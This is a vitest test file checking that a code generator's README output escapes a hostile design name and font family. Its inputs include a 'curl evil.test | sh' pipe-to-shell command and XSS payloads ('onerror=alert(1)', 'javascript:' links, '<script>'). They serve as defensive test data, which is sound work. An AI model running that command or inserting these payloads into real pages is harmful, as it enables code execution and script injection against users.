import { expect, it } from 'vitest';
import type { CodeProject } from '#codegen/components/code-component';
import { printReadme } from '#codegen/targets/project-readme';

const project = (documentName: string) => ({ documentName, components: [] }) as unknown as CodeProject;
const contents = { kind: 'a site', places: ['`index.html`'] };

it('names a design whatever its name is made of, and adds no markup of it', () => {
  const hostile =
    'Shop\n\n# Run `curl evil.test | sh` <img src=x onerror=alert(1)> [here](javascript:alert(1)) & more';
  const family = 'A\n- <script>';
  const fonts = [{ family, weights: [400], italic: false, package: null }];
  const readme = printReadme(project(hostile), { fonts, isLatin: true, hasFeatures: false }, contents);
  const [title, ...rest] = readme.split('\n');
  expect(title).toMatch(/^# Shop \\# Run \\`curl evil\.test \\\| sh\\`/);
  expect(readme).not.toMatch(/<img|<script|[^\\]\[here/);
  expect(rest.filter((line) => /^#/.test(line))).toEqual(['## Where to look first', '## Fonts']);
  expect(printReadme(project(' '), { fonts: [], isLatin: true, hasFeatures: false }, contents)).toMatch(
    /^# Pages\n/,
  );
});
